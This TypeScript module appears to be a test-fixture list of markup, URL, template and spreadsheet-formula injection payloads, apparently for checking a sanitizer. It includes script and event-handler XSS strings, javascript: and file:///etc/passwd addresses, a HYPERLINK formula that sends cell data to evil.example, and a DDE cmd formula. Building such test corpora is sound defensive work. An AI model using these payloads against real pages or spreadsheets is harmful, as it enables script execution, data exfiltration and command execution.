/** What somebody may write so that a page runs it or leads astray. Each would set `window.pwned`, open a window, or make a link that may not be one. */

const runs = 'window.pwned=1'

/** Elements that run something by themselves. */
const elements = [
  `<script>${runs}</script>`,
  `<script src=data:text/javascript,${runs}></script>`,
  `<script/x>${runs}</script>`,
  `<scr<script>ipt>${runs}</scr</script>ipt>`,
  `<SCRIPT>${runs}</SCRIPT>`,
  `</textarea><script>${runs}</script>`,
  `</title><script>${runs}</script>`,
  `</style><script>${runs}</script>`,
  `</script><script>${runs}</script>`,
  `--><script>${runs}</script>`,
  `]]><script>${runs}</script>`,
  `<iframe src="javascript:parent.${runs}"></iframe>`,
  `<iframe srcdoc="<script>parent.${runs}</script>"></iframe>`,
  `<object data="javascript:${runs}"></object>`,
  `<embed src="javascript:${runs}">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${runs}">`,
  `<link rel=stylesheet href="https://evil.example/a.css">`,
  `<style>@import "https://evil.example/a.css";</style>`,
  `<form action="javascript:${runs}"><button autofocus>x</button></form>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${runs}>`,
  `<svg><script>${runs}</script></svg>`,
  `<svg><a xlink:href="javascript:${runs}"><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${runs}>#x"></svg>`,
  `<svg><foreignObject><iframe onload=${runs}></iframe></foreignObject></svg>`,
  `<template><script>${runs}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${runs}>">`,
  `<portal src="https://evil.example/">`,
  `<frameset onload=${runs}>`,
  `<isindex action="javascript:${runs}">`,
]

/** Handlers on elements that fire without anybody's doing, each in three ways of writing it. */
const handlers = [
  'img src=x onerror',
  'svg onload',
  'body onload',
  'video src=x onerror',
  'audio src=x onerror',
  'input autofocus onfocus',
  'select autofocus onfocus',
  'textarea autofocus onfocus',
  'details open ontoggle',
  'marquee onstart',
  'div style="animation:x" onanimationstart',
  'iframe onload',
  'object onerror data=x',
  'img srcset=x onerror',
  'link rel=preload as=script href=x onerror',
].flatMap((begin) => [`<${begin}=${runs}>`, `"><${begin}="${runs}">`, `<${begin.toUpperCase()}='${runs}'//`])

/** Attributes that are broken out of. */
const attributes = [
  `" onmouseover="${runs}`,
  `' onmouseover='${runs}`,
  `" autofocus onfocus="${runs}" x="`,
  '`onmouseover=`window.pwned=1',
  `" style="background:url(javascript:${runs})`,
  `'"><img src=x onerror=${runs}>`,
  `&quot; onload=&quot;${runs}`,
  `&#34;&#62;&#60;img src=x onerror=${runs}&#62;`,
  `&lt;script&gt;${runs}&lt;/script&gt;`,
  `\\"><script>${runs}</script>`,
]

/** Addresses that must not become links. */
const addresses = [
  `javascript:${runs}`,
  `JaVaScRiPt:${runs}`,
  `javascript://%0a${runs}`,
  `java\tscript:${runs}`,
  ` javascript:${runs}`,
  `\u0001javascript:${runs}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${runs}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==`,
  `file:///etc/passwd`,
  `blob:https://evil.example/x`,
  `about:blank`,
  `filesystem:https://evil.example/x`,
  `intent://evil.example#Intent;scheme=http;end`,
  `[link](javascript:${runs})`,
  `![x](javascript:${runs})`,
  `[@Ada](javascript:${runs})`,
  `[@Ada](mention://user/x"onload="${runs}/Ada)`,
  `<javascript:${runs}>`,
  `//evil.example/x`,
]

/** What templates, styles and readers of other formats would take for theirs. */
const templates = [
  '{{constructor.constructor("window.pwned=1")()}}',
  '\u0024{window.pwned=1}',
  '#{window.pwned=1}',
  '<%= window.pwned=1 %>',
  '{% raw %}{{window.pwned=1}}{% endraw %}',
  '__proto__',
  'constructor',
  '{"__html":"<img src=x onerror=window.pwned=1>"}',
  '\u202E<script>window.pwned=1</script>',
  '\uFEFF<script>window.pwned=1</script>',
  '＜script＞window.pwned=1＜/script＞',
  '<\u0000script>window.pwned=1</script>'.replaceAll('\u0000', '\u00A0'),
]

/** Each once. */
export const markupPayloads: readonly string[] = [
  ...new Set([...elements, ...handlers, ...attributes, ...addresses, ...templates]),
]

/** The same as names are taken: in one line, without control characters, not too long. */
export const markupNames: readonly string[] = [
  ...new Set(
    markupPayloads.map((one) =>
      one
        .replaceAll(/\p{Cc}/gu, ' ')
        .trim()
        .slice(0, 100),
    ),
  ),
]

/** What a spreadsheet would reckon with, wherever it lets a cell begin. */
export const formulaPayloads: readonly string[] = [
  '=1+1',
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"Open")',
  '=cmd|"/c calc"!A1',
  '=IMPORTXML("https://evil.example","//a")',
  'x;=1+1',
  'x\n=1+1',
  '"=1+1"',
  '＝1+1',
  "'=1+1",
]
